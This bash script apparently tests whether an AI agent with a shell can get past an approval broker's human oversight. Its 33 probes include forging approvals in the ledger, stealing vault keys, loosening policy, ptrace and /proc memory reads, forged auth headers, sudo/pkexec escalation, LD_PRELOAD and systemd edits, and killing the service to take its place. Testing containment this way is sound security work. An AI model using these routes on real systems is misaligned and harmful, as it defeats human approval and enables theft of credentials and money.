#!/bin/bash
# An agent with a shell, as the user that it runs as: every way it knows to keys, seed, ledger and policy, to a yes of its own,
# to another factor, and into the program's place. Each says what it tried and what it got; a way that leads there is `reached`.
#
# What it is about comes in variables: AT_HOME, AT_KEY, AT_PROGRAM, AT_UNIT, AT_PID, AT_USER, AT_SITE, AT_SOCKET, AT_APPROVAL, and
# MINE: a program of the agent's own.
set -u
mine=$(mktemp -d)
trap 'rm -rf "$mine"' EXIT
number=0 reached=0

# way TITLE FUNCTION : the function ends well only if the way leads there; what it prints last is shown, without any key
way() {
    number=$((number + 1))
    local got state=held
    if got=$("$2" 2>&1); then state=reached reached=$((reached + 1)); fi
    got=$(printf %s "$got" | tr -d '\000' | tail -n 1 | sed -E 's/AGE-SECRET-KEY-[A-Z0-9]+|(sk|rk)_(test|live)_[A-Za-z0-9]+/[key]/g' | cut -c 1-110)
    printf '%-7s %02d  %s: %s\n' "$state" "$number" "$1" "${got:-(silence)}"
}

as_owner() { AGENTPORT_HOME=$AT_HOME AGENTPORT_KEY_FILE=$AT_KEY "$MINE" "$@" </dev/null; }
page() { curl --silent --show-error --max-time 10 --output "$mine/page" --write-out '%{http_code}' "$@"; }
ledger() { python3 -c 'import sqlite3, sys
c = sqlite3.connect("file:%s?mode=%s" % (sys.argv[1], sys.argv[2]), uri=True); print(c.execute(sys.argv[3]).rowcount, c.execute("select count(*) from record").fetchone()); c.rollback()' "$@"; }

read_key() { grep -q AGE-SECRET-KEY- "$AT_KEY"; }
copy_vault() { cp "$AT_HOME/vault.age" "$AT_KEY" "$mine/"; }
open_home() { as_owner accounts --json | tee "$mine/accounts" && grep -q '"integration"' "$mine/accounts"; }
use_copy() {
    cp -r "$AT_HOME" "$mine/copy" && chmod -R go= "$mine/copy" && cp "$AT_KEY" "$mine/key" &&
        AGENTPORT_HOME=$mine/copy AGENTPORT_KEY_FILE=$mine/key "$MINE" call stripe.get_balance --args '{}' --json </dev/null
}
have_it_given() { as_owner moving give 2>&1 | tee "$mine/given" | head -c 300; grep -q '"secret"' "$mine/given"; }
read_ledger() { ledger "$AT_HOME/agentport.db" ro "select 1"; }
forge_yes() { ledger "$AT_HOME/agentport.db" rw "update approval set status = 'approved'"; }
read_policy() { grep -q . "$AT_HOME/policy.toml"; }
loosen_policy() { printf '\n# loosened\n' >>"$AT_HOME/policy.toml"; }
change_settings() { printf '\n# changed\n' >>"$AT_HOME/agentport.toml"; }
let_in_another() { echo 000000 | AGENTPORT_HOME=$AT_HOME AGENTPORT_KEY_FILE=$AT_KEY "$MINE" agents add another --code-stdin --json; }
swap_program() { cp /bin/true "$mine/true" && mv -f "$mine/true" "$AT_PROGRAM.swapped" && mv -f "$AT_PROGRAM.swapped" "$AT_PROGRAM"; }
plant_on_path() {
    local folder found=1
    for folder in "${AT_PROGRAM%/*}" /usr/local/sbin /usr/sbin /usr/bin /sbin /bin; do
        if touch "$folder/agentport-planted" 2>"$mine/why"; then found=0 && rm -f "$folder/agentport-planted"; fi
    done
    cat "$mine/why"
    return "$found"
}
edit_unit() { mkdir -p "$AT_UNIT.d" && printf '[Service]\nUser=root\n' >"$AT_UNIT.d/mine.conf"; }
preload() { echo "$mine/mine.so" >>/etc/ld.so.preload; }
policy_of_root() { mkdir -p /etc/agentport && printf 'schema = 1\n' >/etc/agentport/policy.toml; }
read_environment() { tr '\0' '\n' <"/proc/$AT_PID/environ" | grep -q .; }
read_memory() { python3 -c 'import sys
m = next(l for l in open("/proc/%s/maps" % sys.argv[1]) if " rw-p " in l); f = open("/proc/%s/mem" % sys.argv[1], "rb"); f.seek(int(m.split("-")[0], 16)); print(len(f.read(64)))' "$AT_PID"; }
trace() { python3 -c 'import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, int(sys.argv[1]), None, None): sys.exit(os.strerror(ctypes.get_errno()))
libc.ptrace(17, int(sys.argv[1]), None, None)' "$AT_PID"; }
open_its_files() { ls "/proc/$AT_PID/fd" | grep -q . && ls "/proc/$AT_PID/cwd"; }
see_page() {
    page -H 'X-Forwarded-For: 127.0.0.1' -H 'X-Forwarded-User: owner' -H 'X-Real-IP: 127.0.0.1' -H 'Cookie: session=owner' \
        -H 'Authorization: Basic b3duZXI6b3duZXI=' "$AT_SITE/approve/$AT_APPROVAL"
    grep -q stripe "$mine/page"
}
post_yes() {
    local code
    code=$(page -X POST -H "Origin: $AT_SITE" -H 'Sec-Fetch-Site: same-origin' -d "decision=approve&answer=approve&code=000000" \
        "$AT_SITE/approve/$AT_APPROVAL")
    echo "$code"
    [ "$code" = 200 ] && grep -qi approved "$mine/page"
}
pages_at_socket() {
    local path code found=1
    for path in / /login /approve/"$AT_APPROVAL" /accounts /log; do
        code=$(page --unix-socket "$AT_SOCKET" "http://localhost$path")
        echo "$path $code"
        [ "$code" != 200 ] || found=0
    done
    return "$found"
}
somebody_else() {
    local code
    code=$(page --unix-socket "$AT_SOCKET" -H "Authorization: Bearer apt_$(printf 'A%.0s' {1..43})" -H 'X-AgentPort-Caller: owner' \
        http://localhost/tools)
    echo "$code"
    [ "$code" = 200 ]
}
put_links() {
    local folder found=1
    for folder in "$AT_HOME" "${AT_HOME%/*}" "${AT_SOCKET%/*}" "$AT_HOME/run"; do
        if ln -s /etc/shadow "$folder/mine" 2>"$mine/why"; then found=0 && rm -f "$folder/mine"; fi
    done
    cat "$mine/why"
    return "$found"
}
find_copies() {
    find /home /tmp /var /run /etc /opt /srv -xdev -readable -type f \
        \( -name 'agentport.db*' -o -name 'vault.age*' -o -name '*.agentport.key' -o -name 'handed-over*' -o -name 'arrived.db*' \) \
        -not -path "$mine/*" 2>/dev/null | tee "$mine/found"
    grep -rlsIE 'AGE-SECRET-KEY-1|sk_test_[A-Za-z0-9]{20}' "$HOME" /tmp /var/tmp /etc 2>/dev/null | grep -v "^$mine/" | tee -a "$mine/found"
    [ -s "$mine/found" ]
}
ask_the_keyring() {
    DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/$(id -u)/bus XDG_RUNTIME_DIR=/run/user/$(id -u) XDG_DATA_HOME=$mine \
        busctl --user call org.freedesktop.secrets /org/freedesktop/secrets org.freedesktop.Secret.Service SearchItems 'a{ss}' 0
}
become() {
    local try
    [ "$(id -un)" != "$AT_USER" ] || return 0
    for try in "sudo -n -u $AT_USER" "su -s /bin/sh $AT_USER -c" "setpriv --reuid=$AT_USER" "runuser -u $AT_USER --" \
        "systemd-run --uid=$AT_USER --pipe --quiet" "pkexec --user $AT_USER"; do
        if [ "$(timeout 10 $try id -un </dev/null 2>"$mine/why")" = "$AT_USER" ]; then return 0; fi
    done
    cat "$mine/why"
    return 1
}
decide_by_command() { echo 000000 | AGENTPORT_HOME=$AT_HOME AGENTPORT_KEY_FILE=$AT_KEY "$MINE" approvals approve "$AT_APPROVAL" --code-stdin; }
own_home_behind_the_socket() {
    # variables of its own making, for a home in which everything is allowed
    AGENTPORT_HOME=$mine/own AGENTPORT_KEY_FILE=$mine/ownkey "$MINE" init --store vault --json >"$mine/init" 2>&1
    sed -i 's/"ask"/"allow"/' "$mine/own/policy.toml"
    printf '%s\n' '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"x","version":"1"}}}' \
        '{"jsonrpc":"2.0","method":"notifications/initialized"}' \
        '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"stripe_create_refund","arguments":{"charge":"ch_9","amount":900}}}' |
        AGENTPORT_URL=${AT_SOCKET:+unix:$AT_SOCKET} AGENTPORT_HOME=$mine/own AGENTPORT_KEY_FILE=$mine/ownkey XDG_CONFIG_HOME=$mine \
            LD_PRELOAD=$mine/none.so timeout 20 "$MINE" stdio 2>/dev/null >"$mine/said"
    grep -o '"status": *\\*"[a-z_]*' "$mine/said" | tail -n 1
    grep -q 'completed' "$mine/said"
}
dump_core() {
    ulimit -c unlimited
    (cd "$mine" && kill -ABRT "$AT_PID") || return 1
    sleep 1
    find "$mine" "$AT_HOME" /var/lib/systemd/coredump -name '*core*' 2>/dev/null | grep -q .
}
take_its_place() {
    kill -KILL "$AT_PID" 2>"$mine/why" || [ ! -d "/proc/$AT_PID" ] || { cat "$mine/why"; rm -f "$AT_SOCKET"; return 1; }
    python3 -c 'import socket, sys, time
for _ in range(50):
    try:
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", int(sys.argv[1]))); break
    except OSError: time.sleep(0.1)
else: sys.exit("in use")' "${AT_SITE##*:}"
}
reset_factors() { as_owner factor reset --yes --json; }

way "read the vault's key" read_key
way "copy the vault and its key" copy_vault
way "open the home with a program of one's own" open_home
way "call with a copy of the home" use_copy
way "have the program hand over the home" have_it_given
way "read the ledger" read_ledger
way "write a yes into the ledger" forge_yes
way "read the policy" read_policy
way "loosen the policy" loosen_policy
way "change the settings" change_settings
way "let in another agent" let_in_another
way "swap the program" swap_program
way "plant a program on its PATH" plant_on_path
way "edit the unit" edit_unit
way "preload a library into every program" preload
way "be root's policy" policy_of_root
way "read its environment" read_environment
way "read its memory" read_memory
way "attach to it" trace
way "open what it has open" open_its_files
way "see the approval by forged headers" see_page
way "post a yes to the approval's page" post_yes
way "reach the pages by the socket" pages_at_socket
way "be somebody else at the socket" somebody_else
way "put links where it writes" put_links
way "find a copy, a backup or a forgotten key" find_copies
way "ask the keyring over D-Bus" ask_the_keyring
way "become its user" become
way "decide by command" decide_by_command
way "run behind variables of one's own" own_home_behind_the_socket
way "have it dump its core" dump_core
way "end it and take its place" take_its_place
way "reset the factors and enrol another" reset_factors
printf 'tried %d, reached %d\n' "$number" "$reached"
